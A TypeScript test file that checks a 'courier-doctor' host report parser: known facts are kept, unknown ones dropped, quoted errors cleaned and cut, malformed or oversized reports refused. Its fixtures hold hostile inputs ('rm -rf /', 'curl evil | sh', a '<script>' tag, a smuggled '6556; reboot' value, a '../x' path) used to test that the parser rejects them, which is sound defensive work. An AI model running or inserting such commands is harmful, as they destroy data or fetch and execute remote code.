import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { hostCauses } from '../../src/doctor/report/host-causes.ts';
import { hostFacts } from '../../src/doctor/report/host-facts.ts';
import { largestReportBytes, parseHostReport } from '../../src/doctor/report/host-report.ts';
import { CourierError, faults } from '../../src/faults/errors.ts';
import { controllerStatus, doctorFile, FakeHost } from '../agents/host/courier-doctor-hosts.ts';

const script = readFileSync(doctorFile, 'utf8');

function toBytes(report: unknown): Buffer {
  return Buffer.from(JSON.stringify(report));
}

/** The least that is a report. */
const least = {
  schema: 1,
  program: 'courier-doctor 0.1.0',
  host: 'web01',
  run: null,
  started: '2026-11-28T06:00:00Z',
  duration_ms: 100,
  steps: [
    {
      id: 'listener',
      status: 'fault',
      code: 'port-refused',
      raw_error: null,
      evidence: { port: 6556 },
      duration_ms: 3,
    },
  ],
};
const [listener] = least.steps;

test('what the script prints is taken, with all its facts', (t) => {
  const host = new FakeHost(t).agent().systemd('active', 'active');
  host.controller(controllerStatus({ site: '127.0.0.1/mysite', port: 1, allowed: ['::1'] }));
  host.file('proc/mounts', '/dev/sda1 / ext4 ro 0 0', 'tmpfs /tmp tmpfs rw,noexec 0 0');
  host.program('nc', 'echo refused >&2; exit 1').program('curl', 'exit 7');
  const args = ['--json', '--host=web01', '--run=7', '--site-address=::1'];
  const { stdout } = host.run(args);
  const report = parseHostReport(Buffer.from(stdout, 'latin1'), 'web01');
  const printed: { steps: { id: string; evidence: object; code: string | null }[] } =
    JSON.parse(stdout);
  assert.equal(report.run, '7');
  assert.deepEqual(
    report.steps.map(({ id, evidence, code }) => ({ id, evidence: { ...evidence }, code })),
    printed.steps.map(({ id, evidence, code }) => ({ id, evidence, code })),
  );
});

test('script and program know the same steps, causes and exit codes', () => {
  const steps = /^STEPS='([^']+)'$/m.exec(script)?.[1]?.split(' ');
  assert.deepEqual(steps, Object.keys(hostFacts));
  const finished = [...script.matchAll(/finish (?:fault|warning) ([a-z-]+) /g)];
  const used = new Set(finished.map(([, code = '']) => code));
  assert.deepEqual([...used].sort(), Object.keys(hostCauses).sort());
  const ask = 'for code; do find_fault "$code"; echo "$code $fault $exit_of"; done';
  const said = spawnSync('sh', ['-c', `. "$0"; ${ask}`, doctorFile, ...used], {
    env: { ...process.env, COURIER_DOCTOR_LIBRARY: '1' },
    encoding: 'utf8',
  });
  const expected = Object.entries(hostCauses)
    .filter(([code]) => used.has(code))
    .map(([code, fault]) => `${code} ${fault} ${faults[fault].exit}`);
  assert.deepEqual(said.stdout.trim().split('\n').sort(), expected.sort());
});

test('facts, steps and sentences that are not known are left behind', () => {
  const report = parseHostReport(
    toBytes({
      ...least,
      command: 'rm -rf /',
      steps: [
        {
          ...listener,
          text: 'believe me',
          fix: 'curl evil | sh',
          evidence: { port: 6556, listeners: ['0.0.0.0:6556'], odd: '<script>' },
        },
        { id: 'constructor', status: 'ok' },
        { id: 'newer', status: 'ok', evidence: { all: true } },
      ],
    }),
    'web01',
  );
  assert.deepEqual(
    { ...report },
    {
      ...least,
      steps: [{ ...listener, evidence: { port: 6556, listeners: ['0.0.0.0:6556'] } }],
    },
  );
});

test('a cause nobody knows is unexplained, and quoted text is cleaned and cut', () => {
  const raw = `a\u001b[31m\u202eb\n|${'x'.repeat(1000)}`;
  const step = { ...listener, code: 'newer-cause', raw_error: raw };
  const [taken] = parseHostReport(toBytes({ ...least, steps: [step] }), 'web01').steps;
  assert.equal(taken?.code, 'unexplained');
  assert.match(taken?.raw_error ?? '', /^a \[31m b ¦x+…$/);
  assert.equal(taken?.raw_error?.length, 300);
});

test('what is no report of this host is refused', () => {
  const wrong: readonly (readonly [bytes: Buffer, line: string])[] = [
    [Buffer.from('<html>'), 'the report is not JSON; it is what courier-doctor --json prints'],
    [toBytes({ ...least, host: 'db01' }), 'the report is of "db01", not of web01'],
    [toBytes({ ...least, steps: [listener, listener] }), 'the report tells a step twice'],
    [
      toBytes({ ...least, schema: 2 }),
      'this is no report of courier-doctor: schema: Invalid input: expected 1',
    ],
    [
      toBytes({ ...least, steps: [{ ...listener, evidence: { port: '6556; reboot' } }] }),
      'this is no report of courier-doctor: steps.0: listener.evidence.port: Invalid input: expected number, received string',
    ],
    [
      toBytes({ ...least, run: '../x' }),
      'this is no report of courier-doctor: run: Invalid string: must match pattern /^[A-Za-z0-9_.-]{1,64}$/',
    ],
  ];
  for (const [bytes, message] of wrong) {
    assert.deepEqual(findFault(bytes), ['MALFORMED', message]);
  }
  const large = Buffer.alloc(largestReportBytes + 1, ' ');
  assert.deepEqual(findFault(large), ['TOO_LARGE', 'the report has more than 262144 bytes']);
});

function findFault(bytes: Buffer): readonly [code: string, message: string] | undefined {
  try {
    parseHostReport(bytes, 'web01');
    return undefined;
  } catch (error) {
    assert.ok(error instanceof CourierError, String(error));
    return [error.code, error.message];
  }
}

test('whatever a host sends is taken or refused, and nothing else happens', () => {
  const whole = toBytes(least);
  for (let at = 0; at < whole.length; at += 1) {
    for (const byte of [0x22, 0x5c, 0x7b, 0x39, 0xff]) {
      const bytes = Buffer.from(whole);
      bytes[at] = byte;
      assert.ok(['MALFORMED', undefined].includes(findFault(bytes)?.[0]));
    }
  }
});
